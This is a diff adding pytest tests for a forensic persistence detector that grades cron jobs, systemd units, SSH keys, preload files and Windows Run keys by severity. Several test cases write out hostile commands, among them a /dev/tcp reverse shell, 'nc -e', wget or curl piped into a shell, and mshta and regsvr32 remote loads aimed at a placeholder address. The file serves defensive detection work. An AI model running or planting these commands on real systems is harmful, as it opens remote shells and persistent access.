@@ -1,0 +1,312 @@
+"""The persistence table and its judge: what is a finding, how grave, and that its target loses nothing."""
+
+from __future__ import annotations
+
+import re
+from collections import Counter
+from pathlib import Path
+
+import pytest
+
+from commodore.detection import Detection
+from commodore.engine import catalogue, unit
+from commodore.evidence import Evidence
+from commodore.host import Host
+from commodore.persistence import Members, complete, completed
+from commodore.persistence.suspicion import of_command, of_file
+from commodore.persistence.table import mechanisms, traits
+from tests.conftest import need
+
+DETECTION = Detection.load()
+ARTEFACTS = catalogue.artefacts()
+LINUX = Host(
+    "c",
+    name="h",
+    os="linux",
+    users={"0": "root", "33": "www-data", "1000": "agnes"},
+    profiles={"root": "/root", "www-data": "/var/www", "agnes": "/home/agnes"},
+)
+WINDOWS = Host("c", name="h", os="windows", system_root="C:\\Windows")
+
+
+def findings(path: str, content: bytes, dataset: str, host: Host = LINUX, companions: dict | None = None) -> list[dict]:
+    hits: list = []
+    evidence = Evidence(path, content, collection="c", member=1, companions=companions)
+    outcome = unit.parse(
+        ARTEFACTS[dataset], evidence, host, lambda records: hits.extend(DETECTION.match(ARTEFACTS[dataset].artefact, records, host))
+    )
+    assert not [p for p in outcome.problems if "Error" in p.reason], outcome.problems
+    return list(DETECTION.findings(hits))
+
+
+def severity(path: str, content: str, dataset: str) -> str:
+    """The gravest, `` where nothing is said."""
+    return max((f for f in findings(path, content.encode(), dataset)), key=lambda f: f["event.severity"], default={"escadre.severity": ""})[
+        "escadre.severity"
+    ]
+
+
+# --- the table
+
+
+def test_the_table_has_the_rows_of_the_first_cut_and_each_is_whole() -> None:
+    rows = {m.id: m for m in mechanisms()}
+    assert set(rows) == {"W001", "W008", "W012", "W013", "W050", "W051", "W100", "W150", "L001", "L003", "L010", "L050", "L062"}
+    targets = {path.stem for path in (Path(__file__).parents[2] / "commodore" / "artefacts").glob("*.py")}
+    for m in rows.values():
+        assert m.dataset in targets
+        assert m.rule.techniques and m.rule.attack_version and m.expected and m.rule.reference
+    assert rows["L062"].attack == ("T1098.004",) and rows["W012"].remove == "XE" and rows["L010"].kind == "systemd-unit"
+
+
+def test_rows_test_only_fields_that_their_dataset_has() -> None:
+    for m in mechanisms():
+        declared = set(ARTEFACTS[m.dataset].artefact.fields)
+        assert {field for field, _ in m.where} <= declared, m.id
+
+
+def test_patterns_are_quick_on_hostile_text() -> None:
+    for os in ("windows", "linux"):
+        for text in (
+            "powershell " + "-e " * 2700,
+            "^a" * 4000,
+            "curl " + "| " * 4000,
+            "a\\" * 4000,
+            "/." * 4000,
+            "%a:~" * 2000,
+            "base64 -d |" * 700,
+            "wget -o x " * 800,
+            "cmd /c " * 1200,
+            " " * 8000,
+            "cmd /c " * 1200,
+        ):
+            of_command(text, os)
+            of_file(text, os)
+    assert traits()["interpreters"]["linux"]
+
+
+# --- severity
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("* * * * * root /tmp/x", "high"),
+        ("@reboot root /dev/shm/.a/b", "high"),
+        ("* * * * * root /usr/local/bin/.hidden", "high"),
+        ("1 1 * * * root wget -q -O- http://198.51.100.7/a|bash", "high"),
+        ("1 1 * * * root bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'", "high"),
+        ("1 1 * * * root nc -e /bin/sh 198.51.100.7 9", "high"),
+        ("1 1 * * * root /home/agnes/x.sh", "medium"),
+        ("1 1 * * * agnes /home/agnes/x.sh", ""),
+        ("1 1 * * * root /usr/local/sbin/backup", ""),
+        ("1 1 * * * root test -x /usr/bin/x && /usr/bin/x", ""),
+        ("1 1 * * * root find /tmp -mtime +7 -delete", ""),
+        ("1 1 * * * root cd / && run-parts /etc/cron.hourly", ""),
+        ("1 1 * * * root curl -fsS https://status.example/ping", ""),
+        ("1 1 * * * root /usr/local/bin/a #\r1 1 * * * root /usr/bin/true", "high"),
+        ("1 1 * * * root tar czf /tmp/backup.tgz /etc", ""),
+        ("1 1 * * * root python3 -c \"exec(__import__('base64').b64decode('eA=='))\"", "high"),
+    ],
+)
+def test_cron_entries_are_judged_by_what_they_run(line: str, expected: str) -> None:
+    assert severity("/etc/cron.d/job", line + "\n", "cron") == expected
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "expected"),
+    [
+        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/var/tmp/a\n", "high"),
+        ("/etc/systemd/system/a.service", "[Service]\nExecStart=-+/bin/sh -c '/opt/.x/a'\n", "high"),
+        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/opt/a/bin/a --tmp /tmp\n", ""),
+        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/home/agnes/a\n", "medium"),
+        ("/etc/systemd/system/a.service", "[Service]\nUser=agnes\nExecStart=/home/agnes/a\n", ""),
+        ("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nExecStartPost=/dev/shm/a\n", "high"),
+        ("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x.so\n", "high"),
+        ("/usr/lib/systemd/system/a.service", "[Service]\nExecStart=/usr/sbin/a\n", ""),
+        ("/etc/systemd/system/.a.service", "[Service]\nExecStart=/usr/sbin/a\n", "high"),
+        ("/etc/systemd/system/a.timer", "[Timer]\nOnCalendar=daily\n", ""),
+    ],
+)
+def test_units_are_judged_by_all_that_they_run(path: str, text: str, expected: str) -> None:
+    assert severity(path, text, "systemd_units") == expected
+
+
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA" + "A" * 42
+
+
+@pytest.mark.parametrize(
+    ("path", "options", "expected"),
+    [
+        ("/root/.ssh/authorized_keys", "", "high"),
+        ("/root/.ssh/authorized_keys", 'from="192.0.2.1" ', "low"),
+        ("/root/.ssh/authorized_keys", 'command="borg serve --append-only" ', "low"),
+        ("/root/.ssh/authorized_keys", 'from="192.0.2.1",command="curl http://198.51.100.7|sh" ', "high"),
+        ("/var/www/.ssh/authorized_keys", "", "high"),
+        ("/home/agnes/.ssh/authorized_keys", "", "medium"),
+        ("/home/agnes/.ssh/authorized_keys", 'environment="LD_PRELOAD=/tmp/x.so" ', "high"),
+    ],
+)
+def test_keys_are_judged_by_whom_they_open_and_how_they_are_bound(path: str, options: str, expected: str) -> None:
+    assert severity(path, f"{options}{KEY} me@laptop\n", "authorized_keys") == expected
+
+
+def test_preloaded_libraries_are_never_expected_and_hidden_ones_are_critical() -> None:
+    assert severity("/etc/ld.so.preload", "/usr/local/lib/libx.so\n", "ld_so_preload") == "high"
+    assert severity("/etc/ld.so.preload", "/dev/shm/.x.so\n", "ld_so_preload") == "critical"
+    assert severity("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n", "ld_so_preload") == "medium"
+    assert severity("/etc/ld.so.preload", "# nothing\n", "ld_so_preload") == ""
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        (r"C:\Users\a\AppData\Local\Temp\x.exe", "high"),
+        (r"%TEMP%\x.exe", "high"),
+        (r"C:\ProgramData\x.exe", "high"),
+        (r"C:\ProgramData\Vendor\x.exe", ""),
+        (r'"C:\Program Files\A B\x.exe" -temp', ""),
+        (r"C:\Users\a\AppData\Local\Vendor\Update.exe", ""),
+        (r"%APPDATA%\x.exe", "high"),
+        (r"rundll32.exe C:\Users\Public\a.dll,Go", "high"),
+        (r"rundll32.exe shell32.dll,Control_RunDLL", ""),
+        (r"mshta http://198.51.100.7/a.hta", "high"),
+        (r"C:\Windows\System32\svchost.exe -k x", ""),
+        (r"C:\Windows\Help\svchost.exe", "high"),
+        (r"C:\Program Files\svchost.exe", "high"),
+        (r"powershell -nop -w hidden -c x", "high"),
+        (r"powershell.exe -File C:\Program Files\X\a.ps1", ""),
+        (r"\\srv\share\x.exe", "high"),
+        (r"C:\dir\invoice.pdf.exe", "high"),
+        (r"cmd /c start C:\Users\Public\x.bat", "high"),
+        (r"wscript.exe C:\Users\a\x.vbs", "high"),
+        (r"regsvr32 /s /u /i:http://198.51.100.7/a.sct scrobj.dll", "high"),
+        (r"%windir%\system32\SecurityHealthSystray.exe", ""),
+        ("C:\\dir\\gpj.\u202eexe.scr", "high"),
+        (r"C:\Users\a\file.txt:evil.exe", "high"),
+        (r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe /c", ""),
+        (r"C:\Windows\System32\rundll32.exe C:\Windows\System32\Windows.StateRepositoryClient.dll,x", ""),
+        (r"C:\tools\x.exe", ""),
+    ],
+)
+def test_windows_commands_are_judged_by_place_and_manner(line: str, expected: str) -> None:
+    key = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
+    record = {
+        "event.dataset": "run_keys",
+        "escadre.id": "r",
+        "escadre.source": "C:\\Users\\a\\NTUSER.DAT",
+        "registry.hive": "HKU\\a",
+        "registry.key": key,
+        "registry.value": "v",
+        "registry.path": f"HKU\\a\\{key}\\v",
+        "registry.data.strings": [line],
+        "registry.data.type": "REG_SZ",
+        "process.command_line": line,
+        "user.name": "a",
+    }
+    assert set(record) <= {*ARTEFACTS["run_keys"].artefact.fields, "event.dataset", "escadre.id", "escadre.source"}
+    found = DETECTION.match(ARTEFACTS["run_keys"].artefact, [record], WINDOWS)
+    assert [h.severity for h in found] == ([expected] if expected else [])
+    assert all(h.target and h.target["data"] == [line] and h.target["name"] == "v" for h in found)
+
+
+# --- noise
+
+
+def test_the_ordinary_hives_of_the_corpus_have_one_grave_entry_and_it_was_planted(corpus: Path) -> None:
+    import lzma
+
+    grave, records = [], Counter()
+    for file in sorted(p for p in (corpus / "hives").rglob("*") if p.is_file()):
+        raw = file.read_bytes()
+        raw = lzma.decompress(raw) if file.suffix == ".xz" else raw
+        if raw[:4] != b"regf" or "LOG" in file.name.upper():
+            continue
+        name = next((n for n in ("SYSTEM", "SOFTWARE", "NTUSER") if n in file.name.upper()), "")
+        path = "C:\\Users\\agnes\\NTUSER.DAT" if name in ("NTUSER", "") else f"C:\\Windows\\System32\\config\\{name}"
+        for dataset in ("run_keys", "winlogon", "services", "ifeo"):
+            records[dataset] += 1
+            grave += [(file.name, f["message"]) for f in findings(path, raw, dataset, WINDOWS) if f["event.severity"] >= 4]
+    assert [name for name, _ in grave] == ["NTUSER_modified.DAT.xz"]
+    assert "not_a_malware" in grave[0][1]
+
+
+def test_this_debian_root_has_nothing_grave() -> None:
+    need(Path("/etc/debian_version").exists() and Path("/usr/lib/systemd/system").is_dir(), "a Debian root")
+    matcher, seen = catalogue.Matcher(ARTEFACTS), Counter()
+    for base in ("/usr/lib/systemd", "/etc/systemd", "/etc/cron.d", "/etc/crontab", "/etc/cron.daily", "/etc/ld.so.preload"):
+        files = [Path(base)] if Path(base).is_file() else [p for p in Path(base).rglob("*") if p.is_file() and not p.is_symlink()]
+        for file in files:
+            for dataset in set(matcher.by_path(file.as_posix()[1:])) & {"cron", "systemd_units", "ld_so_preload"}:
+                seen[dataset] += 1
+                assert not [f["message"] for f in findings(file.as_posix(), file.read_bytes(), dataset) if f["event.severity"] >= 4]
+    assert seen["systemd_units"] > 50
+
+
+# --- targets
+
+
+def test_a_line_target_keeps_the_line_as_found() -> None:
+    line = "*/5  *\t* * *   root   /tmp/x  # é"
+    finding = findings("/etc/cron.d/job", f"A=b\n{line}\n".encode(), "cron")[0]
+    target = finding["escadre.target"]
+    assert (target["mechanism"], target["kind"], target["path"], target["line"], target["line_number"]) == (
+        "L001",
+        "cron-entry",
+        "/etc/cron.d/job",
+        line,
+        2,
+    )
+    assert target["payload"] == ["/tmp/x"]
+    assert finding["rule.id"] == "L001" and finding["threat.technique.id"] == ["T1053.003"] and finding["escadre.confidence"] == "inferred"
+
+
+def test_a_target_is_completed_from_members_with_links_and_payload() -> None:
+    unit_text = b"[Service]\nExecStart=/bin/sh /var/tmp/.x/run.sh\n"
+    finding = findings("/etc/systemd/system/a.service", unit_text, "systemd_units")[0]
+    members = [
+        {
+            "path": "/etc/systemd/system/a.service",
+            "member": 4,
+            "verdict": "taken",
+            "sha256": "aa",
+            "size": 9,
+            "mode": "0644",
+            "uid": 0,
+            "ino": 7,
+            "xattrs": {},
+        },
+        {"path": "/etc/systemd/system/multi-user.target.wants/a.service", "member": None, "verdict": "link", "link": "../a.service"},
+        {"path": "/etc/systemd/system/b.service", "member": None, "verdict": "link", "link": "/etc/systemd/system/a.service"},
+        {
+            "path": "/etc/systemd/system/other.wants/c.service",
+            "member": None,
+            "verdict": "link",
+            "link": "/usr/lib/systemd/system/c.service",
+        },
+        {"path": "/var/tmp/.x/run.sh", "member": 5, "verdict": "taken", "sha256": "bb", "size": 3, "mode": "0755"},
+    ]
+    target = complete(finding["escadre.target"], members)
+    assert target["payload"] == ["/var/tmp/.x/run.sh"]
+    assert target["file"] | {"sha256": "aa", "mode": "0644", "ino": 7} == target["file"]
+    assert target["payload_files"] == {"/var/tmp/.x/run.sh": {"sha256": "bb", "size": 3, "mode": "0755", "verdict": "taken", "member": 5}}
+    assert target["links"] == ["/etc/systemd/system/b.service", "/etc/systemd/system/multi-user.target.wants/a.service"]
+    assert "file" not in finding["escadre.target"]
+    whole = list(completed([finding], {"c": Members(members)}))
+    assert [f["rule.id"] for f in whole] == ["L010", "file"]
+    assert whole[1]["escadre.target"]["path"] == "/var/tmp/.x/run.sh" and whole[1]["escadre.target"]["file"]["sha256"] == "bb"
+    assert whole[1]["escadre.cause"] == finding["escadre.id"] != whole[1]["escadre.id"] and whole[1]["escadre.severity"] == "high"
+
+
+@pytest.mark.parametrize("path", ["/usr/bin/python3", "/bin/sh", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/sbin/cron"])
+def test_programs_of_the_system_are_never_findings_because_something_starts_them(path: str) -> None:
+    finding = findings("/etc/cron.d/job", f"* * * * * root /tmp/x; {path} /tmp/y\n".encode(), "cron")[0]
+    members = {"c": Members([{"path": p, "member": 1, "verdict": "taken", "sha256": "aa"} for p in (path, "/tmp/x")])}
+    assert [f["escadre.target"]["path"] for f in completed([finding], members)] == ["/etc/cron.d/job", "/tmp/x"]
+
+
+def test_findings_on_one_place_are_told_apart() -> None:
+    found = findings("/etc/ld.so.preload", b"/tmp/a.so /tmp/b.so:/tmp/c.so\n", "ld_so_preload")
+    assert sorted(f["escadre.target"]["name"] for f in found) == ["/tmp/a.so", "/tmp/b.so", "/tmp/c.so"]
+    assert len({f["escadre.id"] for f in found}) == 3
+    assert all(re.fullmatch(r"[0-9a-f]{32}", f["escadre.id"]) for f in found)
